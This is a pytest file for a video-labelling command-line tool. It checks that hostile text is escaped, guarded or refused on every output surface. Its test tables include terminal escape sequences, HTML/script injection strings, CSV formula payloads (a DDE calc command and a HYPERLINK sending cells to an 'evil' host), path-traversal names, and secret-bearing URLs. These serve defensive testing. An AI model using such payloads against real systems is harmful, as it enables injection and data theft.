"""What names, answers, messages and URLs of others may do to who reads them: nothing.

Four tables of attacks: characters that a terminal, a browser or a reader is fooled by, markup, formulas in a CSV, and
secrets in URLs. Each asserts what is shown, stored or refused.
"""

from __future__ import annotations

import csv
import html
import io
import json
import re
import subprocess
import sys
from collections.abc import Callable
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from rich.console import Console
from typer.testing import CliRunner, Result

from framegate.jobs import erase, printing
from framegate.jobs.cli import app
from framegate.jobs.formulas import guard, unguard
from framegate.jobs.log import LIBRARY, Log, LogFormat, refusals_logged
from framegate.pipelines.commit.labels import read_labels
from framegate.pipelines.commit.output import Output
from framegate.pipelines.report.label_form import render_label_form
from framegate.pipelines.source.find import find_input
from framegate.schemas.config import InputConfig
from framegate.schemas.errors import ConfigError, InputError
from framegate.schemas.escape import as_file_name, escape
from framegate.schemas.job import load_job
from framegate.schemas.qa import Question
from framegate.schemas.signatures import hide, holds_password, holds_signature, strip
from framegate.schemas.unanswered import Failure
from framegate.schemas.uris import split_access, with_access
from tests.certify.archive import Archive, put
from tests.outputs import CONFIG_ID
from tests.report.nights import LAST, answers_of, failure, put_night
from tests.web_server import WebServer

CANARY = "c4n4ry"

# A name of the attack, what it writes, and what a person sees of it.
CHARACTERS = [
    pytest.param("a\x1b[2Jb", r"a\x1b[2Jb", id="ansi-clears-the-screen"),
    pytest.param("a\x1b[31;1mb\x1b[0m", r"a\x1b[31;1mb\x1b[0m", id="ansi-colours"),
    pytest.param("a\x1b]0;owned\x07b", r"a\x1b]0;owned\x07b", id="osc-sets-the-title"),
    pytest.param("a\x1b]8;;https://evil\x1b\\b", "a\\x1b]8;;https://evil\\x1b\\b", id="osc-8-makes-a-link"),
    pytest.param("a\x1b]52;c;cm0=\x07b", r"a\x1b]52;c;cm0=\x07b", id="osc-52-writes-the-clipboard"),
    pytest.param("a\x1bP+q544e\x1b\\b", "a\\x1bP+q544e\\x1b\\b", id="dcs-asks-the-terminal"),
    pytest.param("a\x9b31mb", r"a\x9b31mb", id="c1-csi-of-one-byte"),
    pytest.param("a\x9d0;x\x9cb", r"a\x9d0;x\x9cb", id="c1-osc-of-one-byte"),
    pytest.param("a\x08\x08\x08b\x7f", r"a\x08\x08\x08b\x7f", id="backspace-and-delete"),
    pytest.param("a\x00b", r"a\x00b", id="nul"),
    pytest.param("a\x0eb\x0f", r"a\x0eb\x0f", id="shift-out-changes-the-font"),
    pytest.param("a\rerror", r"a\x0derror", id="carriage-return-overwrites"),
    pytest.param("a\nerror: forged", r"a\x0aerror: forged", id="newline-forges-a-line"),
    pytest.param("a\u0085b\x0bc\x0cd", r"a\x85b\x0bc\x0cd", id="other-ends-of-lines"),
    pytest.param("a\u2028b\u2029c", r"a\u2028b\u2029c", id="line-and-paragraph-separator"),
    pytest.param("a\u202egpj.exe", r"a\u202egpj.exe", id="bidi-override"),
    pytest.param("a\u202ab\u202bc\u202cd", r"a\u202ab\u202bc\u202cd", id="bidi-embedding"),
    pytest.param("a\u2066b\u2067c\u2068d\u2069", r"a\u2066b\u2067c\u2068d\u2069", id="bidi-isolates"),
    pytest.param("a\u200eb\u200fc\u061cd", r"a\u200eb\u200fc\u061cd", id="bidi-marks"),
    pytest.param("a\u200bb", r"a\u200bb", id="zero-width-space"),
    pytest.param("a\u200cb\u200dc\u2060d", r"a\u200cb\u200dc\u2060d", id="zero-width-joiners"),
    pytest.param("a\ufeffb", r"a\ufeffb", id="byte-order-mark-inside"),
    pytest.param("a\xadb\u034fc\u180ed", r"a\xadb\u034fc\u180ed", id="soft-hyphen-and-the-like"),
    pytest.param("a\u3164b\u115fc\uffa0d", r"a\u3164b\u115fc\uffa0d", id="hangul-fillers"),
    pytest.param("a\ufe0fb\U000e0101c", r"a\ufe0fb\U000e0101c", id="variation-selectors"),
    pytest.param("a\U000e0041\U000e007fb", r"a\U000e0041\U000e007fb", id="tags-smuggle-a-text"),
    pytest.param("a\u206ab\ufff9c\ufffbd", r"a\u206ab\ufff9c\ufffbd", id="annotations"),
]
MARKUP = [
    pytest.param("[bold red]x[/]", id="rich-style"),
    pytest.param("[link=https://evil]x[/link]", id="rich-link"),
    pytest.param("[/bold]", id="rich-tag-that-closes-nothing"),
    pytest.param(":boom:", id="rich-emoji"),
    pytest.param("\\[bold]", id="rich-escape"),
    pytest.param("<script>alert(1)</script>", id="html-script"),
    pytest.param("\"'><img src=x onerror=alert(1)>", id="html-out-of-an-attribute"),
    pytest.param("</title></style><svg onload=alert(1)>", id="html-out-of-the-title"),
    pytest.param("{{ 7 * 7 }}{% raw %}", id="jinja-template"),
    pytest.param("&#x202e;&lt;b&gt;", id="html-entities"),
]
FORMULAS = [
    pytest.param("=1+1", True, id="equals"),
    pytest.param("+cmd|' /C calc'!A0", True, id="plus-dde"),
    pytest.param("-2+3+cmd", True, id="minus"),
    pytest.param("@SUM(A1)", True, id="at"),
    pytest.param("\t=1+1", True, id="tab"),
    pytest.param("\r=1+1", True, id="carriage-return"),
    pytest.param("  =1+1", True, id="blanks-before"),
    pytest.param("\n=1+1", True, id="newline-before"),
    pytest.param("\u200b=1+1", True, id="zero-width-before"),
    pytest.param("\ufeff=1+1", True, id="byte-order-mark-before"),
    pytest.param("\xa0=1+1", True, id="no-break-space-before"),
    pytest.param("\uff1d1+1", True, id="full-width-equals"),
    pytest.param("\uff0b1\uff0d1", True, id="full-width-plus"),
    pytest.param("\uff20SUM(A1)", True, id="full-width-at"),
    pytest.param("'=1+1", True, id="a-quote-of-its-own-before"),
    pytest.param('=HYPERLINK("https://evil?"&A1,"x")', True, id="hyperlink-sends-cells"),
    pytest.param('"=1+1"', False, id="quoted-is-no-formula"),
    pytest.param("-5", False, id="negative-number"),
    pytest.param("+1.5e-3", False, id="signed-number"),
    pytest.param("a=b", False, id="sign-inside"),
    pytest.param("'tis", False, id="apostrophe"),
]
SECRETS = [  # a URL of a manifest, and what a row may have of it
    pytest.param(f"https://h/a.mp4?X-Amz-Algorithm=A&X-Amz-Signature={CANARY}", "https://h/a.mp4", id="s3-version-4"),
    pytest.param(f"https://h/a.mp4?AWSAccessKeyId={CANARY}&Signature={CANARY}&Expires=1", "https://h/a.mp4", id="s3-2"),
    pytest.param(f"https://h/a.mp4?X-Amz-Security-Token={CANARY}", "https://h/a.mp4", id="s3-session-token"),
    pytest.param(f"https://h/a.mp4?X-Goog-Credential=x&X-Goog-Signature={CANARY}", "https://h/a.mp4", id="gcs-4"),
    pytest.param(f"https://h/a.mp4?GoogleAccessId=x&Signature={CANARY}", "https://h/a.mp4", id="gcs-2"),
    pytest.param(f"https://h/a.mp4?sv=2024&se=1&sp=r&sig={CANARY}%3D", "https://h/a.mp4", id="azure-sas"),
    pytest.param(f"https://h/a.mp4?Policy=x&Key-Pair-Id={CANARY}", "https://h/a.mp4", id="cloudfront"),
    pytest.param(f"https://h/a.mp4?token={CANARY}", "https://h/a.mp4", id="token"),
    pytest.param(f"https://h/a.mp4?api_key={CANARY}", "https://h/a.mp4", id="api-key"),
    pytest.param(f"https://h/a.mp4?anything={CANARY}", "https://h/a.mp4", id="a-parameter-that-nobody-knows"),
    pytest.param(f"https://h/a.mp4#access_token={CANARY}", "https://h/a.mp4", id="fragment"),
    pytest.param(f"HTTPS://h/a.mp4?SIG={CANARY}", "HTTPS://h/a.mp4", id="capitals"),
    pytest.param(f"https://h/a.mp4?sig={CANARY}&versionId=v1.2", "https://h/a.mp4?versionId=v1.2", id="version-stays"),
    pytest.param(f"https://h/a.mp4?generation=17&sig={CANARY}", "https://h/a.mp4?generation=17", id="generation-stays"),
    pytest.param(f"https://h/a.mp4?versionId=<{CANARY}>", "https://h/a.mp4", id="version-that-is-none"),
    pytest.param(f" https://h/a.mp4?sig={CANARY} ", "https://h/a.mp4", id="blanks-around"),
]
REFUSED = [
    pytest.param(f"https://u:{CANARY}@h/a.mp4", id="user-and-password"),
    pytest.param(f"https://{CANARY}@h/a.mp4", id="token-before-the-host"),
    pytest.param(f"https://u:x/{CANARY}@h/a.mp4", id="slash-in-the-password"),
    pytest.param(f"s3://key:{CANARY}@b/a.mp4", id="keys-in-s3"),
    pytest.param(f"s3://key:x/{CANARY}+y@b/a.mp4", id="slash-in-the-key"),
    pytest.param(f"simplecache::https://u:{CANARY}@h/a.mp4", id="password-in-a-chain"),
    pytest.param(f"simplecache::https://h/a.mp4?X-Amz-Signature={CANARY}", id="signature-in-a-chain"),
    pytest.param(f"https://h/https://u:{CANARY}@g/a.mp4", id="password-in-an-inner-url"),
    pytest.param(f"s3://b/a.mp4?X-Amz-Signature={CANARY}", id="signature-behind-s3"),
    pytest.param(f"abfs://c@acct/a.mp4?sv=1&sig={CANARY}", id="sas-behind-abfs"),
    pytest.param(f"https://h/a.mp4%3FX-Amz-Signature%3D{CANARY}", id="encoded-question-mark"),
    pytest.param(f"https://h/a.mp4;sig={CANARY}", id="matrix-parameter"),
]
TEXTS = [  # a message, and what is stored and printed of it
    pytest.param(f"cannot read https://h/a?X-Amz-Signature={CANARY}: no", "cannot read https://h/a?...: no", id="url"),
    pytest.param(f"'https://h/a?x=1&token={CANARY}'", "'https://h/a?...'", id="quoted"),
    pytest.param(f"https://u:{CANARY}@h/ is away", "https://***@h/ is away", id="password"),
    pytest.param(f"https://h/a?f=g(x)&sig={CANARY}", "https://h/a?...", id="parenthesis-in-the-query"),
    pytest.param(f"https://h/a?a=b c&sig={CANARY}", "https://h/a?a=b c&sig=...", id="blank-in-the-query"),
    pytest.param(f"GET /a?X-Amz-Signature={CANARY} HTTP/1.1", "GET /a?X-Amz-Signature=... HTTP/1.1", id="no-host"),
    pytest.param(f"https%3A%2F%2Fh%3Fsig%3D{CANARY}%26x", "https%3A%2F%2Fh%3Fsig%3D...%26x", id="encoded"),
    pytest.param(f"https://h/a?odd={CANARY * 4}", "https://h/a?...", id="long-value-of-any-name"),
    pytest.param(f'{{"u":"https:\\/\\/h?a\\u0026sig\\u003d{CANARY}"}}', '{"u":"https:\\/\\/h?..."}', id="json"),
    pytest.param("https://player/?video={uri}&t={seconds}", "https://player/?video={uri}&t={seconds}", id="no-secret"),
]
VALUES = [  # a value of a manifest's other column, and what is stored
    pytest.param(f"https://h/a?v=7&X-Amz-Signature={CANARY}&X-Amz-Date=1", "https://h/a?v=7", id="s3"),
    pytest.param(f"see https://h/a?sig={CANARY}&se=1&sp=r and more", "see https://h/a and more", id="in-a-sentence"),
    pytest.param(f"rtsp://admin:{CANARY}@10.0.0.7/live", "rtsp://10.0.0.7/live", id="camera-password"),
    pytest.param("https://h/watch?v=abcdefghijklmnopqrstuvwxyz", "https://h/watch?v=abcdefghijklmnopqrstuvwxyz",
                 id="no-secret-stays"),
    pytest.param("token=yes", "token=yes", id="no-url-stays"),
]  # fmt: skip
# All characters together: what is shown of it has each of them written out, wherever it stands.
ALL = "".join(str(each.values[0]) for each in CHARACTERS) + "".join(str(each.values[0]) for each in MARKUP)
SURFACES = (
    "table", "table-of-blocks", "csv-on-a-screen", "json-on-a-screen", "json-file", "markdown", "report", "labels-page",
    "log", "log-of-a-library", "json-log", "error", "erase", "audit",
)  # fmt: skip


def is_harmless(text: str) -> bool:
    """Nothing in it but characters that are seen, and line breaks of ours."""
    return not re.search(r"[^\n]", text) or escape(text.replace("\n", "")) == text.replace("\n", "")


def run(*arguments: str, width: int = 2000) -> Result:
    return CliRunner().invoke(app, list(arguments), env={"COLUMNS": str(width)}, catch_exceptions=False)


# --- characters and markup, on each surface, by the real commands ---


@pytest.fixture(scope="module")
def index(tmp_path_factory: pytest.TempPathFactory) -> str:
    """An output whose names, cameras, answers, thoughts, questions and messages are as bad as can be: text by text."""
    output = Output.at(str(tmp_path_factory.mktemp("people") / "index"))
    texts = [str(each.values[0]) for each in (*CHARACTERS, *MARKUP)]
    night = replace(LAST, videos=range(10, 10 + len(texts)), fields={"job": f"j{texts[0]}.yaml"})
    rows = answers_of(night)
    for row in rows:
        text = texts[int(row["video_id"], 16) - 10]
        row |= {"answer": text, "answer_first": text, "thinking_text": text, "question": text, "question_id": text}
        row |= {"video_uri": f"s3://c/{text}/{text}.mp4", "input_camera": text, "status": "answered"}
    failed = [failure(90 + n, "storage", night, message=text) for n, text in enumerate(texts)]
    put_night(output, 0, night, rows=rows, failures=failed)
    return output.root


@pytest.fixture(scope="module")
def surfaces(index: str, tmp_path_factory: pytest.TempPathFactory) -> dict[str, str]:
    """What each surface shows of all the texts, each command called once."""
    folder = tmp_path_factory.mktemp("shown")
    sql = "SELECT DISTINCT video_uri, answer, thinking_text, question, input_camera FROM answers"
    shown: dict[str, str] = {}

    def query(name: str, *options: str, width: int = 4000) -> None:
        result = run("query", sql, "-o", index, "--full", *options, width=width)
        assert result.exit_code == 0, result.output
        shown[name] = result.output

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(printing, "is_terminal", lambda: True)
        patch.setattr(printing, "make_console", lambda: Console(width=4000))
        query("table")
        query("csv-on-a-screen", "-f", "csv")
        query("json-on-a-screen", "-f", "json", "--json", str(folder / "q.json"))
        query("markdown", "-f", "markdown")
        patch.setattr(printing, "make_console", lambda: Console(width=60))
        query("table-of-blocks")
        patch.setattr(printing, "make_console", lambda: Console(width=4000))
        shown["json-file"] = (folder / "q.json").read_text()
        result = run("report", index, "--out", str(folder / "night.html"), "--by", "camera")
        assert result.exit_code == 0, result.output
        shown["report"] = (folder / "night.html").read_text()
        patch.setattr(erase, "MAX_SHOWN", 1000)
        shown["erase"] = run("erase", index, "--prefix", "s3://c/").output
        shown["audit"] = run("audit", index, "--quick").output
    shown["labels-page"] = render_label_form([form_row(str(one.values[0])) for one in (*CHARACTERS, *MARKUP)],
                                             config_id=CONFIG_ID, link="https://p/?{uri}")  # fmt: skip
    return shown


class Seen(HTMLParser):
    """The tags of a page with their attributes, as a browser would find them."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def form_row(text: str) -> dict[str, object]:
    return {
        "video_id": "0" * 16, "clip_index": 0, "question_hash": "1" * 16, "video_uri": f"s3://{text}",
        "thumbnail": None, "start_seconds": 0.0, "end_seconds": 1.0, "question": text, "question_id": text,
        "answer_type": "choice", "question_options": [text, "b"], "first_value": text, "second_value": "b",
    }  # fmt: skip


def logged(text: str, *, format: LogFormat = LogFormat.text, event: str = "warning") -> str:
    stream = io.StringIO()
    Log(format, stream=stream).write(event, text, uri=text)
    return stream.getvalue()


def raised(text: str) -> str:
    stream = io.StringIO()
    with pytest.raises(BaseException), refusals_logged(Log(stream=stream)):  # noqa: B017, PT011
        raise InputError(text)
    return stream.getvalue()


SAID: dict[str, Callable[[str], str]] = {
    "log": logged,
    "log-of-a-library": lambda text: logged(text, event=LIBRARY),
    "json-log": lambda text: logged(text, format=LogFormat.json),
    "error": raised,
}


@pytest.mark.parametrize("surface", [name for name in SURFACES if name not in (*SAID, "audit")])
@pytest.mark.parametrize(("text", "shown"), CHARACTERS)
def test_a_character_is_written_out_in(surfaces: dict[str, str], surface: str, text: str, shown: str) -> None:
    page = surfaces[surface]
    if "json" in surface:
        rows = json.loads(page)["rows"]
        assert text in {row["answer"] for row in rows}  # the value is what it was, by JSON's own escapes
        assert text not in page
        return
    if surface in ("report", "labels-page"):
        page = html.unescape(page)
    if surface == "markdown":
        shown = re.sub(r"([\\\[\]])", r"\\\1", shown)
    squeezed = re.sub(r"\n *│? *", "", page) if surface == "table-of-blocks" else page
    assert shown in squeezed or shown.replace(r"\x0a", "\\x0a\n") in page or _is_cut(surface, shown, page)
    assert text not in page


def _is_cut(surface: str, shown: str, page: str) -> bool:
    """Over several lines of one cell or block: each part of it is there."""
    parts = re.split(r"(?<=\\x0a)", shown)
    return len(parts) > 1 and all(part in page for part in parts)


@pytest.mark.parametrize("surface", list(SAID))
@pytest.mark.parametrize(("text", "shown"), CHARACTERS)
def test_a_character_is_written_out_in_a_line_of(surface: str, text: str, shown: str) -> None:
    line = SAID[surface](text)
    if surface == "json-log":
        assert json.loads(line)["uri"] == text
        assert len(line.splitlines()) == 1
        assert is_harmless(line)
        return
    first, *others = line.rstrip("\n").split("\n")
    assert shown in "".join([first, *(other.removeprefix("    ") for other in others)])
    assert all(other.startswith("    ") for other in others)
    assert is_harmless(line)


@pytest.mark.parametrize("surface", SURFACES)
def test_nothing_unseen_is_anywhere_on(surfaces: dict[str, str], surface: str) -> None:
    assert is_harmless(surfaces[surface] if surface in surfaces else SAID[surface](ALL))


@pytest.mark.parametrize("text", MARKUP)
def test_markup_is_shown_as_text(surfaces: dict[str, str], text: str) -> None:
    assert text in surfaces["table"]
    assert "\x1b" not in surfaces["table"]
    for page in ("report", "labels-page"):
        assert "<" not in text or f">{text}" not in surfaces[page]
        assert html.escape(text, quote=True).replace("&#x27;", "&#39;").replace("&quot;", "&#34;") in surfaces[page]


@pytest.mark.parametrize("text", MARKUP)
def test_markup_on_a_terminal_makes_no_style_and_no_link(text: str) -> None:
    out = io.StringIO()
    console = Console(file=out, force_terminal=True, width=200, color_system=None)
    printing.print_line(console, text)
    printing.print_table(console, ["name"], [{"name": text}], title=text)
    assert out.getvalue().count(text) == 3
    assert "\x1b]8" not in out.getvalue()


def test_both_pages_load_nothing_and_run_no_script_but_ours(surfaces: dict[str, str]) -> None:
    for page in (surfaces["report"], surfaces["labels-page"]):
        policy = html.unescape(re.findall(r'Content-Security-Policy" content="([^"]*)"', page)[0])
        assert policy.startswith("default-src 'none'; ")
        assert "base-uri 'none'" in policy
        assert "script-src" not in policy or "script-src 'sha256-" in policy
        seen = Seen()
        seen.feed(page)
        assert not {"link", "iframe", "object", "embed", "base"} & {tag for tag, _ in seen.tags}
        for tag, attributes in seen.tags:
            assert not any(name.startswith("on") for name in attributes), tag
            assert (attributes.get("src") or "data:").startswith("data:"), tag


def test_the_script_of_the_page_of_labels_is_the_one_that_its_policy_names(surfaces: dict[str, str]) -> None:
    import base64
    import hashlib

    page = surfaces["labels-page"]
    (script,) = re.findall(r"<script>(.*?)</script>", page, re.DOTALL)
    digest = base64.b64encode(hashlib.sha256(script.encode()).digest()).decode()
    assert f"script-src 'sha256-{digest}'" in page


@pytest.mark.parametrize(
    ("text", "name"),
    [
        pytest.param("../../etc/cron", "_.._etc_cron", id="folders-above"),
        pytest.param("a\x1b[2J\u202eb\n", "a__2J_b_", id="control-characters"),
        pytest.param("/etc/passwd", "_etc_passwd", id="absolute"),
        pytest.param("...", "_", id="dots-alone"),
        pytest.param("x" * 400, "x" * 120, id="too-long"),
    ],
)
def test_a_file_is_named_plainly(text: str, name: str) -> None:
    assert as_file_name(text) == name


@pytest.mark.parametrize(
    "arguments",
    [
        pytest.param(["plan", "--no\x1b[2J\u202e"], id="option-that-is-none"),
        pytest.param(["query", "SELECT 1", "--rows", "\x1b[2J\u202e"], id="value-of-a-wrong-type"),
        pytest.param(["no\x1b[2J\u202e"], id="command-that-is-none"),
        pytest.param(["query", "SELECT 1", "x\x1b[2J\u202e"], id="argument-too-many"),
        pytest.param(["plan", "no\x1b[2J\u202e.yaml"], id="job-that-is-not-there"),
        pytest.param(["query", "SELEKT \x1b[2J\u202e", "-o", "nowhere"], id="sql-that-is-none"),
    ],
)
def test_what_is_typed_wrongly_is_repeated_harmlessly(arguments: list[str]) -> None:
    result = run(*arguments)
    assert result.exit_code == 2
    assert is_harmless(result.output)
    assert "\\x1b[2J" in result.output or arguments[-1] in ("nowhere", "\x1b[2J\u202e")  # which are not repeated


def test_a_defect_shows_a_harmless_traceback_without_secrets() -> None:
    program = (
        "import sys\nfrom framegate.jobs import cli\nsys.argv = ['framegate', 'plan', 'job.yaml']\n"
        "import framegate.schemas.job as job\n"
        f"def broken(path): raise KeyError('\\x1b[2J https://h/a?sig={CANARY}')\n"
        "job.load_job = broken\ncli.main()\n"
    )
    done = subprocess.run([sys.executable, "-c", program], capture_output=True, text=True, check=False)
    assert done.returncode == 1
    assert "KeyError" in done.stderr
    shown = done.stderr.split("KeyError", 2)[-1]
    assert CANARY not in shown
    assert "\x1b" not in done.stderr


@pytest.mark.parametrize(
    "name",
    [
        pytest.param("a\u2028output: {uri: stolen}\u2028#", id="separator-ends-a-comment"),
        pytest.param("a\noutput: {uri: stolen}\n#", id="newline-ends-a-comment"),
        pytest.param("a\x1b[2J\x85b", id="control-character-is-no-yaml"),
        pytest.param('"]\u2029output: {uri: stolen}', id="quote-ends-a-list"),
    ],
)
@pytest.mark.parametrize("place", ["name", "column"])
def test_a_first_job_is_the_one_that_was_asked_for_whatever_is_called_how(
    tmp_path: Path, name: str, place: str
) -> None:
    folder = tmp_path / "videos"
    folder.mkdir()
    (folder / (f"{name.replace('/', '_')}.mp4" if place == "name" else "a.mp4")).write_text("no video")
    if place == "column":
        with (folder / "m.csv").open("w", newline="") as file:
            csv.writer(file).writerows([["uri", name], ["a.mp4", "x"]])
    job = tmp_path / "job.yaml"
    result = run("init", str(folder), "--out", str(job), "--output", str(tmp_path / "index"))
    assert result.exit_code == 0, result.output
    assert load_job(job).config.output.uri == str(tmp_path / "index")
    assert is_harmless(job.read_text())
    assert is_harmless(result.output)


# --- formulas ---


@pytest.mark.parametrize(("text", "is_formula"), FORMULAS)
def test_a_formula_is_guarded_and_reads_back(text: str, is_formula: bool) -> None:
    assert guard(text) == ("'" + text if is_formula else text)
    assert unguard(str(guard(text))) == text


def test_blanks_without_end_are_guarded_at_once() -> None:
    assert guard("\n\x85\u2028" * 20_000 + "x") == "\n\x85\u2028" * 20_000 + "x"


@pytest.fixture(scope="module")
def exported(index: str, tmp_path_factory: pytest.TempPathFactory) -> dict[str, dict[str, object]]:
    """By option: what `query --out rows.csv` makes of each formula. Parquet and JSON have them as they are."""
    folder = tmp_path_factory.mktemp("csv")
    texts = [str(each.values[0]) for each in FORMULAS]
    column = ", ".join("'" + text.replace("'", "''") + "'" for text in texts)
    sql = f'SELECT unnest([{column}]) AS "=name"'
    found: dict[str, dict[str, object]] = {}
    for name, options in {"guarded": ("r.csv",), "plain": ("p.csv", "--plain-csv"), "json": ("r.json",),
                          "parquet": ("r.parquet",)}.items():  # fmt: skip
        path = folder / options[0]
        assert run("query", sql, "-o", index, "--out", str(path), *options[1:]).exit_code == 0
        if path.suffix == ".csv":
            head, *rows = csv.reader(io.StringIO(path.read_bytes().decode(), newline=""))
            cells = [row[0] for row in rows]
            found[name] = {"head": head[0], **dict(zip(texts, cells, strict=True))}
        elif path.suffix == ".json":
            found[name] = {row["=name"]: row["=name"] for row in json.loads(path.read_text())["rows"]}
        else:
            found[name] = {text: text for text in pq.read_table(path)["=name"].to_pylist()}
    return found


@pytest.mark.parametrize(("text", "is_formula"), FORMULAS)
def test_a_formula_in_a_query(exported: dict[str, dict[str, object]], text: str, is_formula: bool) -> None:
    assert exported["guarded"][text] == ("'" + text if is_formula else text)
    assert exported["plain"][text] == exported["json"][text] == exported["parquet"][text] == text
    assert (exported["guarded"]["head"], exported["plain"]["head"]) == ("'=name", "=name")


def test_numbers_of_a_query_are_numbers(index: str) -> None:
    assert run("query", "SELECT -5 AS a, -0.5 AS b", "-o", index, "-f", "csv").stdout == "a,b\n-5,-0.5\n"


@pytest.mark.parametrize("suffix", [".csv", ".jsonl"])
def test_an_option_that_is_a_formula_goes_out_as_a_label_and_comes_back(tmp_path: Path, suffix: str) -> None:
    options = ("=1+1", "'=2", "-5", "a\u2028b")
    question = Question(id="black_seen", text="=cmd()", type="choice", options=options)
    output = Output.at(str(tmp_path / "index"))
    put(output, Archive(num_films=4, questions=(question,), says="=1+1"))
    job = tmp_path / "job.yaml"
    job.write_text(
        f"input: {{videos: {tmp_path}/videos/}}\nmodel: {{name: nowhere}}\noutput: {{uri: {tmp_path}/index}}\n"
        "questions: [{id: q, text: Is anyone there, type: yes_no}]\ngate: {audit: {rate: 0.5}}\n"
    )
    path = tmp_path / f"labels{suffix}"
    command = ("label", str(job), "--config-id", CONFIG_ID)
    result = run(*command, "--claim", "error", "--most", "4", "--out", str(path))
    assert result.exit_code == 0, result.output
    if suffix == ".csv":
        rows = list(csv.DictReader(io.StringIO(path.read_bytes().decode(), newline="")))
        assert {row["question"] for row in rows} == {"'=cmd()"}
        assert {row["first_value"] for row in rows} == {"'=1+1"}
        text = io.StringIO(newline="")
        writer = csv.DictWriter(text, rows[0])
        writer.writeheader()
        writer.writerows(row | {"label": guard(option)} for row, option in zip(rows, options, strict=True))
        path.write_bytes(text.getvalue().encode())
    else:
        rows = [json.loads(line) for line in path.read_text().split("\n")[:-1]]
        assert {row["question"] for row in rows} == {"=cmd()"}
        lines = [row | {"label": option} for row, option in zip(rows, options, strict=True)]
        path.write_text("".join(json.dumps(line, ensure_ascii=False) + "\n" for line in lines))
    result = run(*command, "--read", str(path), "--by", "=anna")
    assert "4 labels stored" in result.output, result.output
    assert {label.answer for label in read_labels(output, CONFIG_ID).values()} == set(options)


# --- secrets in URLs ---


@pytest.mark.parametrize(("url", "name"), SECRETS)
def test_a_row_has_no_signature(tmp_path: Path, url: str, name: str) -> None:
    """Of a server that is not there: the row says so, and not how it was asked. What is asked is the URL as given."""
    assert split_access(url.strip())[0] == name
    with WebServer() as server:
        (tmp_path / "m.csv").write_text(
            f'uri,n\n"{re.sub("(?i)https://h", server.root.replace("http", url.strip()[:4]), url)}",1\n'
        )
        found = find_input(InputConfig(videos=str(tmp_path / "m.csv"), protocols=["file", "http"])).videos
        asked = server.requests[0][1] if server.requests else ""
    (row,) = found.drop_columns(["access"]).to_pylist()
    assert row["video_uri"].partition("://")[2].partition("/")[2] == name.partition("://")[2].partition("/")[2]
    assert CANARY not in str(row)
    assert CANARY in asked or "#" in url or "<" in url


@pytest.mark.parametrize("url", REFUSED)
@pytest.mark.parametrize("place", ["manifest", "list", "alone", "command"])
def test_a_secret_elsewhere_is_refused_and_not_repeated(tmp_path: Path, url: str, place: str) -> None:
    if place == "command":
        result = run("probe", url)
        assert CANARY not in result.output
        return
    (tmp_path / "m.csv").write_text(f'uri\n"{url}"\n')
    if place == "manifest":
        row = find_input(InputConfig(videos=str(tmp_path / "m.csv"))).videos.to_pylist()[0]
        assert row["refusal"]["reason"] == "secret_in_uri"
        assert CANARY not in str(row)
        return
    videos = {"list": (url,), "alone": url}[place]
    said = r"(password or a user|signature or a token|simplecache:// is no kind of storage)"
    with pytest.raises((InputError, ConfigError), match=said) as caught:
        find_input(InputConfig.made(videos=videos))
    assert CANARY not in str(caught.value)


@pytest.mark.parametrize(("text", "shown"), TEXTS)
def test_a_message_has_no_signature(text: str, shown: str) -> None:
    assert hide(text) == hide(shown) == shown
    assert Failure(stage="decode", reason="storage", message=text).message == shown
    assert str(InputError(text)) == shown
    for said in (raised(text), logged(text), logged(text, event=LIBRARY), logged(text, format=LogFormat.json)):
        assert CANARY not in said


@pytest.mark.parametrize(("value", "kept"), VALUES)
@pytest.mark.parametrize("kind", ["csv", "jsonl", "parquet"])
def test_a_value_of_a_manifest_has_no_signature(tmp_path: Path, value: str, kept: str, kind: str) -> None:
    path = tmp_path / f"m.{kind}"
    film = str(tmp_path / "a.mp4")
    if kind == "csv":
        path.write_text(f'uri,source\n{film},"{value}"\n')
    elif kind == "jsonl":
        path.write_text(json.dumps({"uri": film, "source": value}) + "\n")
    else:
        pq.write_table(pa.table({"uri": [film], "source": [value], "deep": [[{"u": value}]]}), path)
    (row,) = find_input(InputConfig(videos=str(path))).videos.to_pylist()
    assert row["input_source"] == kept
    assert CANARY not in str(row)


@pytest.mark.parametrize(
    "text",
    [
        pytest.param(f"https://h/a.mp4?X-Amz-Signature={CANARY}\nhttps://h/b.mp4\n", id="no-head"),
        pytest.param(f'name\nhttps://h/a.mp4?X-Amz-Signature={CANARY},"x\n', id="broken-quotes"),
        pytest.param(f"uri,n\nhttps://h/a.mp4?sig={CANARY},1\nhttps://h/a.mp4?sig={CANARY}2,2\n", id="named-twice"),
        pytest.param(f"uri,uri\nhttps://h/a.mp4?sig={CANARY},1\n", id="two-columns-uri"),
    ],
)
def test_a_manifest_that_cannot_be_read_repeats_no_signature(tmp_path: Path, text: str) -> None:
    (tmp_path / "m.csv").write_text(text)
    result = run("probe", str(tmp_path / "m.csv"))
    assert CANARY not in result.output
    with pytest.raises(InputError) as caught:
        find_input(InputConfig(videos=str(tmp_path / "m.csv")))
    assert CANARY not in str(caught.value)


def test_a_version_is_asked_for_with_the_query_in_the_order_in_which_it_was_signed() -> None:
    url = f"https://h/a.mp4?b=2&versionId=v1&Signature={CANARY}"
    assert with_access(*split_access(url)) == url
    assert split_access(url) == ("https://h/a.mp4?versionId=v1", f"b=2&versionId=v1&Signature={CANARY}")


@pytest.mark.parametrize(
    "text",
    [
        pytest.param("://a:" * 13_000 + "@", id="passwords-without-end"),
        pytest.param("a://@" * 13_000, id="users-without-end"),
        pytest.param("https://h/?" + "&sig=1" * 10_000, id="parameters-without-end"),
        pytest.param("a" * 60_000 + "://x", id="scheme-without-end"),
        pytest.param("?" * 60_000 + "://", id="marks-without-end"),
    ],
)
def test_a_text_made_to_be_slow_is_read_at_once(text: str) -> None:
    import time

    began = time.monotonic()
    for look in (hide, strip, holds_password, holds_signature):
        look(text)
    assert time.monotonic() - began < 5
